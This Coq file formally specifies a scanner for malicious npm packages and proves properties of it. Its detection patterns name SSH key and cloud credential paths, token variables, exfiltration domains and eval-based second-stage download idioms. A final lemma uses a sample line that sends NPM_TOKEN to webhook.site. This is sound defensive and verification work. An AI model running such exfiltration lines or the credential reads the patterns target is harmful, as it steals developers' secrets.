(* ===== verification/Analyzer.v ===== *)
(** * oath-analyze: pattern findings ([patterns.rs], [analyzer.rs])

    The built-in pattern table, the string scan and the AST visitor that report
    findings, at most one per kind and line. *)
From S2P Require Export Report.

(** ** [patterns.rs] *)

Record Pattern := {
  id : string;
  pkind : FindingKind;
  prisk : RiskLevel;
  description : string;
  strings : list string;
}.

Definition pattern_net_fetch : Pattern :=
  {| id := "net-fetch"; pkind := Network; prisk := Info;
    description := "Uses fetch() API for network requests";
    strings := ["fetch("; "fetch ("] |}.
Definition pattern_net_http_require : Pattern :=
  {| id := "net-http-require"; pkind := Network; prisk := Low;
    description := "Requires http/https/net module";
    strings := ["require('http')"; q "require(`http`)"; "require('https')";
      q "require(`https`)"; "require('net')"; q "require(`net`)"; "require('tls')";
      q "require(`tls`)"; "require('dns')"; q "require(`dns`)"] |}.
Definition pattern_net_axios : Pattern :=
  {| id := "net-axios"; pkind := Network; prisk := Info;
    description := "Uses axios for HTTP requests";
    strings := ["require('axios')"; q "require(`axios`)"; "from 'axios'"; q "from `axios`"] |}.
Definition pattern_net_got : Pattern :=
  {| id := "net-got"; pkind := Network; prisk := Info;
    description := "Uses got/node-fetch for HTTP requests";
    strings := ["require('got')"; "require('node-fetch')"; q "require(`got`)";
      q "require(`node-fetch`)"] |}.
Definition pattern_net_socket_connect : Pattern :=
  {| id := "net-socket-connect"; pkind := Network; prisk := Medium;
    description := "Creates raw TCP/socket connection";
    strings := [".connect("; "net.createConnection"; "new net.Socket"] |}.
Definition pattern_fs_require : Pattern :=
  {| id := "fs-require"; pkind := Filesystem; prisk := Low;
    description := "Requires fs module";
    strings := ["require('fs')"; q "require(`fs`)"; "require('fs/promises')";
      q "require(`fs/promises`)"; "require('node:fs')"; q "require(`node:fs`)"] |}.
Definition pattern_fs_write_home : Pattern :=
  {| id := "fs-write-home"; pkind := Filesystem; prisk := High;
    description := "Writes to home directory or system paths";
    strings := ["process.env.HOME"; "os.homedir()"; "~/.ssh"; "~/.aws"; "~/.npmrc";
      "/.ssh/"; "/.aws/credentials"] |}.
Definition pattern_fs_read_sensitive : Pattern :=
  {| id := "fs-read-sensitive"; pkind := Filesystem; prisk := High;
    description := "Reads SSH keys, credential paths, or /etc/passwd";
    strings := ["id_rsa"; "id_ed25519"; "/.ssh/"; "/.aws/credentials"; "/etc/passwd";
      "/etc/shadow"] |}.
Definition pattern_env_sensitive : Pattern :=
  {| id := "env-sensitive"; pkind := EnvAccess; prisk := High;
    description := "Accesses sensitive environment variables (tokens/keys/secrets)";
    strings := ["NPM_TOKEN"; "AWS_SECRET"; "AWS_ACCESS_KEY"; "GITHUB_TOKEN"; "GH_TOKEN";
      "API_KEY"; "SECRET_KEY"; "PRIVATE_KEY"; "DATABASE_URL"; "CI_TOKEN"; "SLACK_TOKEN";
      "DISCORD_TOKEN"] |}.
Definition pattern_env_access : Pattern :=
  {| id := "env-access"; pkind := EnvAccess; prisk := Info;
    description := "Reads environment variables";
    strings := ["process.env"] |}.
Definition pattern_subprocess_require : Pattern :=
  {| id := "subprocess-require"; pkind := Subprocess; prisk := Medium;
    description := "Requires child_process module";
    strings := ["require('child_process')"; q "require(`child_process`)";
      "require('node:child_process')"; q "require(`node:child_process`)"] |}.
Definition pattern_subprocess_exec : Pattern :=
  {| id := "subprocess-exec"; pkind := Subprocess; prisk := High;
    description := "Executes shell commands";
    strings := [".execSync("; ".spawnSync("; ".execFileSync("; "child_process.exec(";
      "shelljs"; "shell.exec("; "require('shelljs')"; q "require(`shelljs`)"] |}.
Definition pattern_eval_direct : Pattern :=
  {| id := "eval-direct"; pkind := DynamicExec; prisk := High;
    description := "Uses eval() for dynamic code execution";
    strings := ["eval("; " eval "] |}.
Definition pattern_eval_function : Pattern :=
  {| id := "eval-function"; pkind := DynamicExec; prisk := High;
    description := "Uses new Function() for dynamic code execution";
    strings := ["new Function("; "new Function ("] |}.
Definition pattern_eval_vm : Pattern :=
  {| id := "eval-vm"; pkind := DynamicExec; prisk := High;
    description := "Uses Node.js vm module for dynamic execution";
    strings := ["require('vm')"; q "require(`vm`)"; "vm.runInNewContext";
      "vm.runInThisContext"; "vm.Script"] |}.
Definition pattern_eval_settimeout_string : Pattern :=
  {| id := "eval-settimeout-string"; pkind := DynamicExec; prisk := High;
    description := "Passes string to setTimeout/setInterval (dynamic exec)";
    strings := [q "setTimeout(`"; q "setInterval(`"; "setTimeout('"; "setInterval('"] |}.
Definition pattern_obfus_atob : Pattern :=
  {| id := "obfus-atob"; pkind := Obfuscation; prisk := Info;
    description := "Uses atob/btoa base64 encoding";
    strings := ["atob("; "btoa("] |}.
Definition pattern_obfus_charcode : Pattern :=
  {| id := "obfus-charcode"; pkind := Obfuscation; prisk := Info;
    description := "Builds strings from char codes";
    strings := ["fromCharCode("; "String.fromCharCode"] |}.
Definition pattern_exfil_dns : Pattern :=
  {| id := "exfil-dns"; pkind := DataExfiltration; prisk := Critical;
    description := "Hardcoded DNS-tunnel / out-of-band exfiltration domain";
    strings := [".nip.io"; ".burpcollaborator"; ".ngrok.io"; ".oast."; ".dnslog."] |}.
Definition pattern_crypto_miner : Pattern :=
  {| id := "crypto-miner"; pkind := CryptoMiner; prisk := High;
    description := "Possible cryptocurrency mining code";
    strings := ["coinhive"; "CoinHive"; "CryptoNight"; "cryptonight"; "stratum+tcp://";
      "monero"; "xmrig"; "wasm-pack-template"; "WebAssembly.instantiate"; "mining";
      "hashrate"] |}.
Definition pattern_second_stage_download : Pattern :=
  {| id := "second-stage-download"; pkind := DynamicExec; prisk := Critical;
    description := "Downloads and executes remote code at runtime (second-stage payload)";
    strings := ["eval(require('https')"; q "eval(require(`https`)"; "new Function(await";
      "vm.runInContext(await"; "vm.runInNewContext(await"; ".then(eval)"; ".then(r=>eval(";
      ".then(r => eval("; "eval(await fetch"; "eval(await res"] |}.
Definition pattern_credential_harvest : Pattern :=
  {| id := "credential-harvest"; pkind := CredentialHarvest; prisk := Critical;
    description := "Reads SSH private keys, browser cookies, or the OS keychain";
    strings := [".ssh/id_rsa"; ".ssh/id_ed25519"; ".ssh/id_dsa";
      "Library/Application Support/Google/Chrome"; "Login Data"; "keychain"] |}.
Definition pattern_cloud_credential_access : Pattern :=
  {| id := "cloud-credential-access"; pkind := CredentialHarvest; prisk := High;
    description := "References cloud / CI credential paths or tokens (AWS, GitHub, npm)";
    strings := [".aws/credentials"; ".aws/config"; "AWS_ACCESS_KEY_ID";
      "AWS_SECRET_ACCESS_KEY"; "GITHUB_TOKEN"; "npm_token"; "NPM_TOKEN"; ".npmrc"] |}.
Definition pattern_exfil_env_over_network : Pattern :=
  {| id := "exfil-env-over-network"; pkind := DataExfiltration; prisk := High;
    description := "Sends env var contents over network (suspicious exfiltration pattern)";
    strings := ["process.env.AWS_SECRET"; "process.env.GITHUB_TOKEN";
      "process.env.NPM_TOKEN"; "process.env.CI_JOB_TOKEN"; "process.env.DATABASE_URL";
      "process.env.SECRET_KEY"] |}.
Definition pattern_postinstall_heavy : Pattern :=
  {| id := "postinstall-heavy"; pkind := InstallScript; prisk := High;
    description := "Heavy postinstall lifecycle manipulation (path probing, env inspection)";
    strings := ["npm_lifecycle_event"; "npm_package_name"; "npm_lifecycle_script";
      "INIT_CWD"] |}.
Definition pattern_conditional_payload : Pattern :=
  {| id := "conditional-payload"; pkind := ConditionalPayload; prisk := High;
    description := "Conditional payload gated on locale, timezone, or IP geolocation";
    strings := ["Intl.DateTimeFormat"; "process.env.LANG"; "process.env.TZ"; "geoiplookup";
      "ipapi.co"; "ip-api.com"; "ipinfo.io"; "freegeoip"; "geolocation-db.com"] |}.
Definition pattern_bracket_notation : Pattern :=
  {| id := "bracket-notation"; pkind := BracketNotation; prisk := Medium;
    description := "Bracket notation property access used to evade static string detection";
    strings := ["process['env']"; q "process[`env`]"; "require['child_process']";
      q "require[`child_process`]"; "process['env']['"; q "process[`env`][`"] |}.
Definition pattern_ci_env_targeting : Pattern :=
  {| id := "ci-env-targeting"; pkind := CiTargeting; prisk := High;
    description := "Reads CI pipeline environment variables (often used to detect and steal tokens)";
    strings := ["process.env.CI"; "process.env.GITHUB_ACTIONS"; "process.env.TRAVIS";
      "process.env.CIRCLECI"; "process.env.GITHUB_TOKEN"; "process.env.NPM_TOKEN";
      "GITHUB_ACTIONS"; "TRAVIS_BUILD"; "CIRCLECI"] |}.
Definition pattern_env_path_overwrite : Pattern :=
  {| id := "env-path-overwrite"; pkind := EnvPathOverwrite; prisk := High;
    description := "Overwrites process.env.PATH or LD_PRELOAD -- can redirect executables to malicious binaries";
    strings := ["process.env.PATH ="; "process.env.PATH="; "process.env['PATH']";
      q "process.env[`PATH`]"; "process.env.LD_PRELOAD"; "process.env['LD_PRELOAD']";
      q "process.env[`LD_PRELOAD`]"; "LD_PRELOAD="] |}.
Definition pattern_module_loader_patch : Pattern :=
  {| id := "module-loader-patch"; pkind := ModuleLoaderPatch; prisk := High;
    description := "Patches Node.js module loader (require hijacking) -- can intercept all module loads";
    strings := ["Module._resolveFilename"; "Module.prototype.require"; "Module._load";
      "require('module')._resolveFilename"; q "require(`module`)._resolveFilename";
      "_resolveFilename"; "prototype.require ="] |}.
Definition pattern_exfil_domains : Pattern :=
  {| id := "exfil-domains"; pkind := DataExfiltration; prisk := Critical;
    description := "Hardcoded data-exfil domain detected (ngrok, requestbin, pipedream, webhook.site, etc.)";
    strings := ["ngrok.io"; "ngrok.app"; "requestbin"; "pipedream.net"; "webhook.site";
      "burpcollaborator"; "duckdns.org"; "freemyip.com"] |}.
Definition pattern_dns_exfil : Pattern :=
  {| id := "dns-exfil"; pkind := DataExfiltration; prisk := Critical;
    description := "DNS exfiltration: data tunnelled through DNS queries to attacker domain";
    strings := [".burpcollaborator.net"; ".oastify.com"; ".interact.sh"; ".canarytokens.com"] |}.

Definition PATTERNS : list Pattern :=
  [pattern_net_fetch; pattern_net_http_require; pattern_net_axios; pattern_net_got;
   pattern_net_socket_connect; pattern_fs_require; pattern_fs_write_home;
   pattern_fs_read_sensitive; pattern_env_sensitive; pattern_env_access;
   pattern_subprocess_require; pattern_subprocess_exec; pattern_eval_direct;
   pattern_eval_function; pattern_eval_vm; pattern_eval_settimeout_string;
   pattern_obfus_atob; pattern_obfus_charcode; pattern_exfil_dns; pattern_crypto_miner;
   pattern_second_stage_download; pattern_credential_harvest;
   pattern_cloud_credential_access; pattern_exfil_env_over_network;
   pattern_postinstall_heavy; pattern_conditional_payload; pattern_bracket_notation;
   pattern_ci_env_targeting; pattern_env_path_overwrite; pattern_module_loader_patch;
   pattern_exfil_domains; pattern_dns_exfil].

(** ** [analyzer.rs] *)

Definition count_char (c : ascii) (s : string) : nat :=
  length (filter (λ a, a = c) (chars s)).

Definition line_number (source : string) (byte_offset : nat) : nat :=
  count_char newline (take_str (byte_offset `min` String.length source) source) + 1.

Definition extract_line (source : string) (n : nat) : string :=
  take_chars 120 (trim (default "" (lines source !! (n - 1)))).

Definition reported (k : FindingKind) (n : nat) (fs : list Finding) : bool :=
  existsb (λ f, bool_decide (kind f = k) && bool_decide (line f = n)) fs.

(** The inner loop: the first needle of the list that occurs, by its offset. *)
Definition find_needle (source : string) (needles : list string) : option nat :=
  first_some (λ n, find_str n source) needles.

Section analyzer.
Context (source file_path : string).

Definition scan_pattern (fs : list Finding) (p : Pattern) : list Finding :=
  match find_needle source (strings p) with
  | Some pos =>
      let l := line_number source pos in
      if reported (pkind p) l fs then fs
      else fs ++ [{| kind := pkind p; risk := prisk p; message := description p;
                     file := file_path; line := l;
                     snippet := Some (extract_line source l) |}]
  | None => fs
  end.

Definition string_scan (fs : list Finding) : list Finding := foldl scan_pattern fs PATTERNS.

(** *** The AST visitor *)

Definition push (k : FindingKind) (r : RiskLevel) (msg : string) (l : nat) (s : string)
    (fs : list Finding) : list Finding :=
  if reported k l fs then fs
  else fs ++ [{| kind := k; risk := r; message := msg; file := file_path; line := l;
                 snippet := Some s |}].

Definition offset_to_line (offset : nat) : nat := line_number source offset.
Definition line_snippet (offset : nat) : string :=
  extract_line source (offset_to_line offset).

(** [&source[start..end]]: offsets come from the parser, in the source. *)
Definition slice (start stop : nat) : string :=
  take_str (stop - start) (drop_str start source).

Definition check_exfil_combo (span_start span_end : nat) (fs : list Finding) :
    list Finding :=
  let s := slice span_start (span_end `min` String.length source) in
  if contains "process.env" s
     && (contains "POST" s || contains "body" s || contains "send" s)
  then push DataExfiltration Critical
         "Sends environment variables over network (likely credential theft)"
         (offset_to_line span_start) (line_snippet span_start) fs
  else fs.

Definition is_char_boundary (i : nat) : bool :=
  match chars source !! i with
  | Some a => negb (between 128 191 a)
  | None => bool_decide (i = String.length source)
  end.

(** [while end > start && !source.is_char_boundary(end) { end -= 1; }]: the
    distance to [start] bounds the rounds. *)
Fixpoint clamp_down (fuel start stop : nat) : nat :=
  match fuel with
  | S fuel =>
      if bool_decide (start < stop) && negb (is_char_boundary stop)
      then clamp_down fuel start (stop - 1) else stop
  | O => stop
  end.
Definition window_end (start : nat) : nat :=
  let stop := (start + 80) `min` String.length source in
  clamp_down (stop - start) start stop.

Definition visit_buffer_from (start : nat) (object : Expr) (prop : string)
    (arguments : list Argument) (fs : list Finding) : list Finding :=
  if bool_decide (prop = "from") && bool_decide (object = Identifier "Buffer")
     && (2 <=? length arguments)
  then
    let s := slice start (window_end start) in
    if contains "base64" s || contains "hex" s then
      push Obfuscation Medium "Buffer.from() with base64/hex (obfuscation pattern)"
        (offset_to_line start) (line_snippet start) fs
    else fs
  else fs.
Definition visit_function_constructor (start : nat) (object : Expr) (prop : string)
    (fs : list Finding) : list Finding :=
  if bool_decide (prop = "constructor") && bool_decide (object = Identifier "Function")
  then push DynamicExec High "Function.constructor() -- dynamic code execution"
         (offset_to_line start) (line_snippet start) fs
  else fs.

Definition visit_call (start stop : nat) (callee : Expr) (arguments : list Argument)
    (fs : list Finding) : list Finding :=
  match callee with
  | Identifier name =>
      if bool_decide (name = "eval") then
        push DynamicExec High "Direct eval() -- dynamic code execution"
          (offset_to_line start) (line_snippet start) fs
      else if bool_decide (name = "fetch") then check_exfil_combo start stop fs
      else fs
  | StaticMemberExpression object prop =>
      let fs := visit_buffer_from start object prop arguments fs in
      visit_function_constructor start object prop fs
  | _ => fs
  end.

Definition visit_member (start : nat) (object : Expr) (property : string)
    (fs : list Finding) : list Finding :=
  if bool_decide (object = Identifier "process") && bool_decide (property = "env")
  then push EnvAccess Info "Reads process.env" (offset_to_line start) (line_snippet start) fs
  else fs.

Definition ast_visit (fs : list Finding) (v : Visit) : list Finding :=
  match v with
  | VisitCall start stop callee arguments => visit_call start stop callee arguments fs
  | VisitMember start object property => visit_member start object property fs
  | _ => fs
  end.

Definition ast_scan `{!Oxc} (fs : list Finding) : list Finding :=
  let source_type := infer_source_type file_path in
  if body_is_empty source source_type then fs
  else foldl ast_visit fs (program_visits source source_type).

(** [Analyzer::analyze], from no findings: the findings it ends with. It never
    fails. [update_capabilities] derives the analyzer's own capabilities. *)
Definition analyze `{!Oxc} : list Finding := ast_scan (string_scan []).
Definition update_capabilities (fs : list Finding) : Capabilities :=
  foldl note_capability no_capabilities fs.
End analyzer.

(** ** Properties *)

Definition key (f : Finding) : FindingKind * nat := (kind f, line f).

Lemma reported_true k n fs : reported k n fs = true ↔ (k, n) ∈ key <$> fs.
Proof.
  unfold reported. rewrite existsb_exists, list_elem_of_fmap.
  setoid_rewrite <- list_elem_of_In. split.
  - intros (f & Hf & [Hk Hl]%andb_true_iff).
    apply bool_decide_eq_true in Hk, Hl. exists f. by unfold key; subst.
  - intros (f & [= -> ->] & Hf). exists f. by rewrite !bool_decide_eq_true_2.
Qed.

Section properties.
Context (source file_path : string).
Notation push := (push file_path).
Notation ast_visit := (ast_visit source file_path).
Notation scan_pattern := (scan_pattern source file_path).

(** No two findings share a kind and a line; all are about this file. *)
Definition wf (fs : list Finding) : Prop :=
  NoDup (key <$> fs) ∧ Forall (λ f, file f = file_path ∧ 1 ≤ line f) fs.

(** A step that keeps [wf] and only appends. *)
Definition extends (h : list Finding → list Finding) : Prop :=
  ∀ fs, (wf fs → wf (h fs)) ∧ fs `prefix_of` h fs.

Lemma extends_id : extends (λ fs, fs).
Proof. done. Qed.
Lemma extends_compose h k : extends h → extends k → extends (λ fs, k (h fs)).
Proof.
  intros Hh Hk fs. destruct (Hh fs) as [Hw Hp], (Hk (h fs)) as [Hw' Hp'].
  split; [auto|by etrans].
Qed.
Lemma extends_if (c : bool) h k :
  extends h → extends k → extends (λ fs, if c then h fs else k fs).
Proof. by destruct c. Qed.
Lemma extends_foldl {A} (h : list Finding → A → list Finding) l :
  (∀ x, extends (λ fs, h fs x)) → extends (λ fs, foldl h fs l).
Proof.
  intros Hh. induction l as [|x l IH]; [apply extends_id|].
  apply (extends_compose (λ fs, h fs x) (λ fs, foldl h fs l)); [apply Hh|apply IH].
Qed.

Lemma line_number_pos s i : 1 ≤ line_number s i.
Proof. unfold line_number. lia. Qed.

Lemma extends_push k r m l s : 1 ≤ l → extends (push k r m l s).
Proof.
  intros Hl fs. unfold Analyzer.push. destruct (reported k l fs) eqn:E; [done|].
  split; [|by apply prefix_app_r].
  intros [HN HF]. split.
  - rewrite fmap_app. apply NoDup_app. split_and!; [done| |apply NoDup_singleton].
    assert ((k, l) ∉ key <$> fs) as Hn by (rewrite <- reported_true; congruence).
    intros x Hx ->%list_elem_of_singleton. by apply Hn.
  - apply Forall_app. split; [done|]. by constructor.
Qed.
Lemma extends_visit v : extends (λ fs, ast_visit fs v).
Proof.
  assert (∀ k r m i s, extends (push k r m (offset_to_line source i) s)) as Hpush.
  { intros. apply extends_push, line_number_pos. }
  destruct v as [start stop callee args|start object property| | |]; simpl;
    try apply extends_id.
  - destruct callee; simpl; try apply extends_id.
    + apply extends_if; [apply Hpush|]. apply extends_if; [|apply extends_id].
      unfold check_exfil_combo. apply extends_if; [apply Hpush|apply extends_id].
    + eapply (extends_compose (visit_buffer_from _ _ _ _ _ _)
        (visit_function_constructor _ _ _ _ _)).
      * unfold visit_buffer_from. apply extends_if; [|apply extends_id]. apply extends_if; [apply Hpush|apply extends_id].
      * apply extends_if; [apply Hpush|apply extends_id].
  - unfold visit_member. apply extends_if; [apply Hpush|apply extends_id].
Qed.
Lemma extends_scan_pattern p : extends (λ fs, scan_pattern fs p).
Proof.
  unfold Analyzer.scan_pattern.
  destruct (find_needle source (strings p)) as [pos|]; [|apply extends_id].
  apply (extends_push (pkind p) (prisk p) (description p)), line_number_pos.
Qed.
Lemma extends_string_scan : extends (string_scan source file_path).
Proof. apply extends_foldl, extends_scan_pattern. Qed.
Lemma extends_ast_scan `{!Oxc} : extends (ast_scan source file_path).
Proof.
  unfold ast_scan. apply extends_if; [apply extends_id|].
  apply extends_foldl, extends_visit.
Qed.

Lemma reported_extends h k n fs : extends h → reported k n fs = true → reported k n (h fs) = true.
Proof.
  intros Hh. rewrite !reported_true. destruct (Hh fs) as [_ [l ->]].
  rewrite fmap_app. set_solver.
Qed.

Lemma scan_pattern_reports p pos fs :
  find_needle source (strings p) = Some pos →
  reported (pkind p) (line_number source pos) (scan_pattern fs p) = true.
Proof.
  intros Hp. unfold Analyzer.scan_pattern. rewrite Hp.
  destruct (reported _ _ fs) eqn:E; [done|].
  apply reported_true. rewrite fmap_app. apply elem_of_app. right. simpl. set_solver.
Qed.

Lemma string_scan_complete_from ps fs p pos :
  p ∈ ps → find_needle source (strings p) = Some pos →
  reported (pkind p) (line_number source pos) (foldl scan_pattern fs ps) = true.
Proof.
  intros Hin Hp. apply list_elem_of_split in Hin as (l & k & ->).
  rewrite foldl_app. simpl.
  apply (reported_extends (λ fs, foldl scan_pattern fs k));
    [apply extends_foldl, extends_scan_pattern|].
  by apply scan_pattern_reports.
Qed.

(** What a finding of the string scan says of the source. *)
Definition from_pattern (f : Finding) : Prop :=
  ∃ p n pos, p ∈ PATTERNS ∧ n ∈ strings p ∧ find_str n source = Some pos ∧
    kind f = pkind p ∧ risk f = prisk p ∧ message f = description p ∧
    line f = line_number source pos ∧ snippet f = Some (extract_line source (line f)).

Lemma find_needle_Some ns pos :
  find_needle source ns = Some pos → ∃ n, n ∈ ns ∧ find_str n source = Some pos.
Proof.
  unfold find_needle. induction ns as [|n ns IH]; simpl; [done|].
  destruct (find_str n source) eqn:E; [|set_solver].
  intros [= ->]. exists n. set_solver.
Qed.

Lemma string_scan_sound_from ps fs :
  ps ⊆ PATTERNS → Forall from_pattern fs → Forall from_pattern (foldl scan_pattern fs ps).
Proof.
  revert fs. induction ps as [|p ps IH]; intros fs Hps Hfs; simpl; [done|].
  apply IH; [set_solver|]. unfold Analyzer.scan_pattern.
  destruct (find_needle source (strings p)) as [pos|] eqn:E; [|done].
  case_match; [done|]. apply Forall_app. split; [done|]. constructor; [|done].
  apply find_needle_Some in E as (n & Hn & Hpos).
  exists p, n, pos. split_and!; set_solver.
Qed.

Lemma clamp_down_boundary fuel start stop :
  is_char_boundary source start = true → start ≤ stop → stop - start ≤ fuel →
  is_char_boundary source (clamp_down source fuel start stop) = true ∧
  start ≤ clamp_down source fuel start stop ≤ stop.
Proof.
  revert stop. induction fuel as [|fuel IH]; intros stop Hs Hle Hf; simpl.
  - replace stop with start by lia. split; [done|lia].
  - destruct (decide (start < stop)) as [Hlt|].
    + rewrite bool_decide_eq_true_2 by done. simpl.
      destruct (is_char_boundary source stop) eqn:E; simpl; [split; [done|lia]|].
      destruct (IH (stop - 1) Hs ltac:(lia) ltac:(lia)). split; [done|lia].
    + rewrite bool_decide_eq_false_2 by done. simpl.
      replace stop with start by lia. split; [done|lia].
Qed.

(** Findings of one file: at most one per kind and line, all about the file;
    every pattern of the table with a needle in the source is represented, by a
    finding of its kind on the line of the first needle listed; and the string
    scan reports nothing that is not in the source: each finding has the kind,
    risk and message of a pattern one of whose needles occurs on its line. *)
Theorem analyze_spec `{!Oxc} :
  let fs := analyze source file_path in
  NoDup (key <$> fs) ∧
  Forall (λ f, file f = file_path ∧ 1 ≤ line f) fs ∧
  string_scan source file_path [] `prefix_of` fs ∧
  Forall from_pattern (string_scan source file_path []) ∧
  (∀ p pos, p ∈ PATTERNS → find_needle source (strings p) = Some pos →
     reported (pkind p) (line_number source pos) fs = true).
Proof.
  intros fs.
  assert (wf fs) as [HN HF].
  { apply extends_ast_scan, extends_string_scan. by repeat constructor. }
  split_and!; [done|done|apply extends_ast_scan|..].
  - by apply string_scan_sound_from.
  - intros p pos Hin Hp. apply (reported_extends (ast_scan source file_path)).
    { apply extends_ast_scan. }
    by apply string_scan_complete_from.
Qed.

(** The 80-byte window after a [Buffer.from] call never splits a character:
    its end is a character boundary of the source, at most 80 bytes after the
    start and inside the source, so the slice cannot panic. *)
Theorem window_end_boundary start :
  is_char_boundary source start = true → start ≤ String.length source →
  is_char_boundary source (window_end source start) = true ∧
  start ≤ window_end source start ≤ String.length source ∧
  window_end source start ≤ start + 80.
Proof.
  intros Hb Hlen. unfold window_end.
  destruct (clamp_down_boundary ((start + 80) `min` String.length source - start) start
    ((start + 80) `min` String.length source)); [done|lia|lia|].
  split_and!; [done|lia..].
Qed.
End properties.

Lemma analyze_spec_witness :
  let oxc := {| body_is_empty _ _ := false;
                program_visits _ _ := [VisitCall 0 7 (Identifier "eval") []] |} in
  pattern_eval_direct ∈ PATTERNS ∧
  find_needle "eval(x)" (strings pattern_eval_direct) = Some 0 ∧
  reported DynamicExec 1 (@analyze "eval(x)" "a.js" oxc) = true.
Proof.
  intros oxc. assert (pattern_eval_direct ∈ PATTERNS) as H by (unfold PATTERNS; set_solver).
  split; [exact H|]. split; [reflexivity|].
  by apply (@analyze_spec "eval(x)" "a.js" oxc) with (p := pattern_eval_direct) (pos := 0).
Defined.

Lemma window_end_boundary_witness :
  is_char_boundary "abc" 1 = true ∧ 1 ≤ String.length "abc" ∧
  is_char_boundary "abc" (window_end "abc" 1) = true.
Proof.
  split; [reflexivity|]. split; [simpl; lia|].
  apply (window_end_boundary "abc" 1); [reflexivity|simpl; lia].
Defined.

(** One finding per kind and line keeps the first, not the worst: a token sent to
    a known exfiltration domain on one line is reported as the token pattern's
    [High] finding, and the domain pattern's [Critical] one is dropped. *)
Lemma first_finding_masks_critical :
  let source := "fetch('https://webhook.site/' + process.env.NPM_TOKEN)" in
  find_needle source (strings pattern_exfil_domains) = Some 15 ∧
  prisk pattern_exfil_domains = Critical ∧
  (risk <$> filter (λ f, kind f = DataExfiltration) (string_scan source "index.js" []))
    = [High].
Proof. split_and!; vm_compute; reflexivity. Qed.
